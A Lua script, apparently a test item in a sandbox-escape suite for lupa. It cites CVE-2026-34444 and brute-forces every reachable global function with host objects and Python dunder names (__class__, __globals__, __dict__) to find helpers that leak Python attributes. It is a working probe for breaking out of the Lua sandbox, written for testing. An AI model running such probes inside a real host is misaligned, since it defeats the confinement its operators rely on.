-- id = "L03"
-- title = "a helper of the host that reads attributes for us"

-- CVE-2026-34444: lupa's attribute filter does not see what getattr and its like do. So every
-- function in reach is called as if it were one of them, with everything in reach that might have
-- attributes. A host that passes in such a helper has lost.
local gains = {}

local ATTRIBUTES = { "__class__", "__globals__", "__dict__", "__init__", "__reduce_ex__" }
-- These would end or stall the run, write a log or ask a model; none of them reads attributes.
local LEFT_OUT = { error = true, assert = true, sleep = true, yield = true, print = true,
  load = true, exit = true, collectgarbage = true }
local ELSEWHERE = { llm = true, console = true, io = true, os = true, debug = true, package = true }

local functions, objects, seen = {}, { llm.models, json.decode, json.null }, {}
local function walk(value)
  if type(value) ~= "table" or seen[value] then
    return
  end
  seen[value] = true
  for name, item in next, value do
    if type(item) == "function" or type(item) == "userdata" then
      if not LEFT_OUT[name] then
        functions[tostring(name)] = item
      end
    end
    if not ELSEWHERE[name] then
      walk(item)
    end
  end
end
walk(_G)
objects[#objects + 1] = select(2, pcall(json.decode, "{"))
if python then
  objects[#objects + 1] = python.none
end

for name, call in pairs(functions) do
  for _, object in ipairs(objects) do
    for _, attribute in ipairs(ATTRIBUTES) do
      local ok, found = pcall(call, object, attribute)
      if ok and type(found) == "userdata" and found ~= object and #gains < 10 then
        gains[#gains + 1] = name .. " reads " .. attribute
      end
    end
  end
end
return gains
